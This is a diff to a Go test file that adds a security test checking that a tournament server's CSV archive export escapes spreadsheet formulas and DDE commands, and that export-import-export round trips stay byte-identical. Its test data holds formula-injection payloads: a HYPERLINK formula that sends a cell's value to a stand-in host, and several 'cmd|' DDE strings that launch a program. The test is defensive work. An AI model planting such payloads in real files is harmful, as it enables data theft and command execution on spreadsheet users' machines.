@@ -4,8 +4,12 @@ import (
 	"archive/zip"
 	"bytes"
 	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -270,4 +274,73 @@ func TestSecurite_ArriveeEnRetardDUnInscrit(t *testing.T) {
 	var p apiPartie
 	s.gql(director, arrivee, map[string]any{"l": "L3"}).into(t, "arriveeEnRetard", &p)
 	assert.Equal(t, avant+1, p.Version, "a registered player arrives late")
+}
+
+// TestSecurite_CSVSansFormule (issue 28 item 13): the archive's CSV never
+// hands a spreadsheet a cell it would run (a formula or a DDE command: a
+// text starting with = + - @, a tab or a carriage return): such a cell is
+// written after an apostrophe, which the import takes off, so that export,
+// import into another server and export again give the same file byte for
+// byte and the same names.
+func TestSecurite_CSVSansFormule(t *testing.T) {
+	noms := map[string]string{
+		"L1": `=HYPERLINK("http://exemple.invalid/?v="&A1;"Dupont")`,
+		"L2": `+cmd|' /C calc'!A0`,
+		"L3": `@SOMME(1+1)*cmd|' /C calc'!A0`,
+		"L4": `-2+3+cmd|' /C calc'!A0`,
+	}
+	var brut bytes.Buffer
+	brut.WriteString("tournoi;nom_tournoi;date;ronde;match;licence;nom;club;adversaire;score;score_adversaire;points_de_match;cote_avant;cote_apres\n")
+	cw := csv.NewWriter(&brut)
+	cw.Comma = ';'
+	ligne := func(match, licence, adversaire string, score, contre, pm int) {
+		require.NoError(t, cw.Write([]string{"open-2020", "=1+1", "2020-01-04", "1", match, licence, noms[licence], "@club", adversaire,
+			strconv.Itoa(score), strconv.Itoa(contre), strconv.Itoa(pm), "1500", "1500"}))
+	}
+	ligne("m1", "L1", "L2", 420, 380, 3)
+	ligne("m1", "L2", "L1", 380, 420, 1)
+	ligne("m2", "L3", "L4", 400, 300, 3)
+	ligne("m2", "L4", "L3", 300, 400, 1)
+	cw.Flush()
+
+	const importer = `mutation($c: String!) { importerArchive(fichier: "open.csv", contenu: $c) { lignes } }`
+	const exporter = `{ exportArchive(tournoi: "open-2020", format: csv) { contenu } }`
+	exporte := func(contenu string) (string, map[string]string) {
+		data := t.TempDir()
+		federation := apiToken(t, data, "--role", "director")
+		s := startAPIServer(t, data)
+		defer s.stop()
+		require.Empty(t, s.gql(federation, importer, map[string]any{"c": contenu}).Errors)
+		var e apiExport
+		require.Eventually(t, func() bool {
+			res := s.gql("", exporter, nil)
+			return res.code() == "" && json.Unmarshal(res.Data["exportArchive"], &e) == nil
+		}, 10*time.Second, 20*time.Millisecond)
+		lus := map[string]string{}
+		for licence := range noms {
+			var j struct{ Nom string }
+			s.gql("", `query($id: ID!) { joueur(id: $id) { nom } }`, map[string]any{"id": licence}).into(t, "joueur", &j)
+			lus[licence] = j.Nom
+		}
+		return e.Contenu, lus
+	}
+
+	premier, lus := exporte(brut.String())
+	assert.Equal(t, noms, lus, "the names as imported")
+	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(premier, "\ufeff")))
+	cr.Comma = ';'
+	lignes, err := cr.ReadAll()
+	require.NoError(t, err)
+	require.Len(t, lignes, 5)
+	for _, l := range lignes[1:] {
+		for _, cellule := range l {
+			require.NotEmpty(t, cellule)
+			assert.NotContains(t, "=+-@\t\r", cellule[:1], "cell %q would run in a spreadsheet", cellule)
+		}
+	}
+	assert.Equal(t, "'=1+1", lignes[1][1])
+
+	second, relus := exporte(premier)
+	assert.Equal(t, premier, second, "export, import, export: the same file")
+	assert.Equal(t, noms, relus, "and the same names")
 }
